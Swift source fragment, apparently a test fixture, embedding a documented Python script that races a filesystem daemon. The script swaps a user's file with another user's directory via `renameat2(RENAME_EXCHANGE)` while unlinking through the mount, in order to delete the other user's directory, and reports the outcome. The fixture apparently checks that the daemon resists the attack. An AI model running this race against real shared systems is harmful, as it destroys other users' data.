/// The attack of a user who may write a directory `D` on the source: they
/// exchange a file of theirs with `D/B` (a directory of another user's)
/// again and again (`renameat2(RENAME_EXCHANGE)`) while unlinking that
/// file through the mount, so the daemon's check of the name and its
/// action on it meet different entries. Run as that user with
/// `python3 SCRIPT SOURCE_D MOUNT_D LOG`; it stops when B is gone from D
/// (prints "removed after N tries"), when the daemon's log says it put a
/// directory back ("returned after N tries"), or after 3000 tries
/// ("held after N tries, R refused").
public let swapBehindUnlinkScript = #"""
    import ctypes, os, sys, threading, time
    S, M, LOG = sys.argv[1], sys.argv[2], sys.argv[3]
    libc = ctypes.CDLL(None, use_errno=True)
    def exchange(a, b): libc.syscall(316, -100, a.encode(), -100, b.encode(), 2)
    refused = 0
    for i in range(3000):
        x = "X%d" % i
        # Data to free: an empty file without an undo window is unlinked in place.
        with open(S + "/" + x, "w") as f: f.write("data")
        stop = False
        def swap():
            while not stop: exchange(S + "/" + x, S + "/B")
        t = threading.Thread(target=swap); t.start()
        try: os.unlink(M + "/" + x)
        except IsADirectoryError: refused += 1
        except OSError: pass
        # An entry made in the directory lands its queued burials at once, while the swapping goes on.
        try: os.close(os.open(M + "/t%d" % i, os.O_CREAT | os.O_WRONLY, 0o600))
        except OSError: pass
        time.sleep(0.002)
        stop = True; t.join()
        try: os.unlink(S + "/t%d" % i)
        except OSError: pass
        # Put B back under its name if it is here at all.
        if os.path.isdir(S + "/" + x) and not os.path.isdir(S + "/B"):
            if os.path.lexists(S + "/B"): os.unlink(S + "/B")
            os.rename(S + "/" + x, S + "/B")
        if not os.path.isdir(S + "/B"):
            print("removed after %d tries" % (i + 1)); break
        if os.path.lexists(S + "/" + x): os.unlink(S + "/" + x)
        if "exchanged onto a deleted entry" in open(LOG).read():
            print("returned after %d tries" % (i + 1)); break
    else:
        print("held after %d tries, %d refused" % (i + 1, refused))
    """#
